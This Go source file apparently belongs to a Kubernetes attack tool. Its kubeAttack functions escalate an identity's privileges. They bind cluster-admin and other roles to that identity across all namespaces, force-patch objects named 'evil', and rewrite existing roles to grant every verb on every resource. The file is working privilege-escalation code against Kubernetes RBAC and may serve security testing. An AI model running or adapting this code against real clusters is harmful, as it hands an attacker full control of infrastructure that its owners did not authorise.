package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
)

// subject is somebody as the subject of a binding.
func (a *kubeAttack) subject(who kubeWho) string {
	name, _, _ := strings.Cut(who.name, " in ")
	return "{kind: User, name: '" + name + "', apiGroup: rbac.authorization.k8s.io}"
}

// bindRoles binds every role to itself, everywhere.
func (a *kubeAttack) bindRoles(who kubeWho) {
	everywhere := a.mayTouch(who, "clusterrolebindings")
	here := a.mayTouch(who, "rolebindings")
	if !everywhere && !here {
		return
	}
	for _, role := range append([]string{"ClusterRole/cluster-admin", "ClusterRole/admin", "ClusterRole/edit", "ClusterRole/view"}, a.roles...) {
		kind, name, _ := strings.Cut(role, "/")
		ref := "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: " + kind + ", name: " + name + "}\nsubjects: [" + a.subject(who) + "]\n"
		if kind == "ClusterRole" && everywhere {
			a.write(who, kubeRBACPath+"clusterrolebindings", kubeRBACv1+"kind: ClusterRoleBinding\nmetadata: {name: @}\n"+ref)
		}
		for _, space := range a.spaces() {
			if !here {
				break
			}
			a.write(who, kubeRBACPath+"namespaces/"+space+"/rolebindings", kubeRBACv1+"kind: RoleBinding\nmetadata: {name: @, namespace: "+space+"}\n"+ref)
		}
	}
}

// write makes an object of any name, or, by a patch, one named evil.
func (a *kubeAttack) write(who kubeWho, path, object string) {
	if a.done[who.name+object] {
		return
	}
	name := fmt.Sprintf("x%d-%s", a.marks.Add(1), a.n)
	done := a.did(who, http.MethodPost, "/"+path, strings.Replace(object, "@", name, 1))
	if done {
		a.made = append(a.made, "/"+path+"/"+name)
	}
	if !done && strings.Contains(path, "namespaces/") {
		done = a.did(who, http.MethodPatch, "/"+path+"/evil?fieldManager=a&force=true", strings.Replace(object, "@", "evil", 1))
	}
	if done {
		a.done[who.name+object], a.stronger = true, true
	}
}

// writeRoles writes everything into every role of the set.
func (a *kubeAttack) writeRoles(who kubeWho) {
	if !a.mayTouch(who, "clusterroles", "roles") {
		return
	}
	for _, role := range a.roles {
		kind, name, _ := strings.Cut(role, "/")
		paths := []string{kubeRBACPath + "clusterroles/" + name}
		if kind == "Role" {
			paths = paths[:0]
			for _, space := range a.spaces() {
				paths = append(paths, kubeRBACPath+"namespaces/"+space+"/roles/"+name)
			}
		}
		for _, path := range paths {
			if a.done[path] {
				continue
			}
			rules := `{"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}`
			done := a.did(who, http.MethodPatch, "/"+path, rules)
			if !done {
				done = a.rewrite(who, path)
			}
			if done {
				a.done[path], a.stronger = true, true
			}
		}
	}
}

// rewrite puts a role anew, for those who may update and not patch.
func (a *kubeAttack) rewrite(who kubeWho, path string) bool {
	status, _ := a.replace(who, "/"+path, func(text string) string {
		var object map[string]any
		if json.Unmarshal([]byte(text), &object) != nil {
			return text
		}
		object["rules"] = []any{map[string]any{"apiGroups": []string{"*"}, "resources": []string{"*"}, "verbs": []string{"*"}}}
		put, _ := json.Marshal(object)
		return string(put)
	})
	return status == http.StatusOK
}
